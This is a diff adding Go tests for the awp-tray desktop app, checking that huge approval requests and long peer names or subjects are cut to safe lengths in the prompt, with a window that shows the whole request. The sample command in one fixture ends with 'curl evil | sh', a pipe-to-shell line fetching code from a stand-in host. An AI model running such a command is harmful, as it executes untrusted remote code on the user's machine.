@@ -16,6 +16,7 @@ import (
 	"fyne.io/fyne/v2/widget"
 
 	"github.com/awp-tray/awp-tray/app/autostart"
+	"github.com/awp-tray/awp-tray/app/render"
 	"github.com/awp-tray/awp-tray/peer"
 )
 
@@ -285,5 +286,117 @@ func TestHomeEmptyList(t *testing.T) {
 	fyne.DoAndWait(func() { h.filter.SetText("fir") })
 	if h.empty.Visible() || len(h.shown) != 1 {
 		t.Fatalf("filter matches: empty-list text visible=%v %q, %d rows", h.empty.Visible(), h.empty.Text, len(h.shown))
+	}
+}
+
+// A request whose command, reason and name run to hundreds of kilobytes
+// (a line may hold 1 MiB) is shown cut, with the whole of it in a list of
+// wrapped lines: a label of the whole text took Fyne 78 s to lay out for
+// 100,000 characters, and the person could not deny it meanwhile.
+func TestApprovalHugeRequest(t *testing.T) {
+	f := newFakeNode()
+	a, _ := newTestApp(t, f)
+	cmd := strings.Repeat("echo hello world; ", 300_000/18) + "curl evil | sh"
+	raw, _ := json.Marshal(map[string]string{"cmd": cmd})
+	req := peer.ApprovalRequest{ID: "big", Kind: peer.ApprovalProfile, From: aliceKey.String(), FromName: strings.Repeat("n", 100_000),
+		Caps: []string{"exec"}, Reason: strings.Repeat("why ", 25_000), Detail: raw}
+	f.with(func() { f.pending = []peer.ApprovalRequest{req} })
+	a.handle(peer.Event{Type: peer.EventApproval, Approval: &req})
+
+	w := a.approvals
+	if w == nil || w.cur != "big" {
+		t.Fatalf("prompt not shown: %+v", w)
+	}
+	test.LaidOutObjects(w.w.Content())
+	if n := len([]rune(w.title.Text)); n > render.MaxTitle {
+		t.Errorf("title is %d characters", n)
+	}
+	for _, it := range w.fields.Items {
+		v := it.Widget.(*widget.Label).Text
+		if n := len([]rune(v)); n > render.MaxField+100 {
+			t.Errorf("field %s is %d characters", it.Text, n)
+		}
+		if it.Text == "command" && !strings.Contains(v, fmt.Sprintf("(%d characters in all: Show whole request…)", len(cmd))) {
+			t.Errorf("the cut command does not say so: …%s", v[len(v)-80:])
+		}
+	}
+	if !w.whole.Visible() {
+		t.Fatal("no Show whole request button")
+	}
+	before := len(a.fa.Driver().AllWindows())
+	test.Tap(w.whole)
+	wins := a.fa.Driver().AllWindows()
+	if len(wins) != before+1 {
+		t.Fatalf("%d windows after Show whole request, want %d", len(wins), before+1)
+	}
+	list := findList(wins[len(wins)-1].Content())
+	if list == nil {
+		t.Fatal("the whole-request window has no list")
+	}
+	var got strings.Builder
+	in := false
+	for i := 0; i < list.Length(); i++ {
+		row := list.CreateItem()
+		list.UpdateItem(i, row)
+		l := row.(*widget.Label).Text
+		switch {
+		case l == "command:":
+			in = true
+		case in && strings.HasPrefix(l, "  "):
+			got.WriteString(l[2:])
+		default:
+			in = false
+		}
+	}
+	if got.String() != cmd {
+		t.Errorf("the whole-request window's command (%d characters) differs from the request's (%d)", got.Len(), len(cmd))
+	}
+	// A small request hides the button again.
+	small := peer.ApprovalRequest{ID: "small", Kind: peer.ApprovalProfile, From: aliceKey.String(), Caps: []string{"exec"},
+		Detail: json.RawMessage(`{"cmd":"make"}`)}
+	f.with(func() { f.pending = []peer.ApprovalRequest{req, small} })
+	a.handle(peer.Event{Type: peer.EventApproval, Approval: &small})
+	fyne.DoAndWait(func() { w.show("small") })
+	if w.whole.Visible() {
+		t.Error("Show whole request shown for a request shown whole")
+	}
+}
+
+// findList returns the first widget.List in o's tree.
+func findList(o fyne.CanvasObject) *widget.List {
+	switch x := o.(type) {
+	case *widget.List:
+		return x
+	case *fyne.Container:
+		for _, c := range x.Objects {
+			if l := findList(c); l != nil {
+				return l
+			}
+		}
+	}
+	return nil
+}
+
+// A peer's name is kept bounded for every label that shows it (rows,
+// thread windows, grant lines), and a subject for the thread window's
+// title.
+func TestHugeNameAndSubject(t *testing.T) {
+	f := newFakeNode()
+	a, _ := newTestApp(t, f)
+	huge := strings.Repeat("n", 200_000)
+	var tw *threadWindow
+	fyne.DoAndWait(func() {
+		a.main.setPeers([]peer.PeerInfo{{Key: bobKey.String(), Name: huge}})
+		tw = a.openThread(peer.ThreadInfo{Th: "thr_h", Peer: bobKey.String(), Subject: huge})
+	})
+	a.Wait()
+	if n := len([]rune(a.main.name(bobKey.String()))); n > render.MaxName {
+		t.Errorf("name: %d runes", n)
+	}
+	if n := len([]rune(tw.w.Title())); n > render.MaxTitle+len("AWP: ") {
+		t.Errorf("thread window title: %d runes", n)
+	}
+	if n := len([]rune(tw.header.Text)); n > render.MaxTitle {
+		t.Errorf("thread header: %d runes", n)
 	}
 }
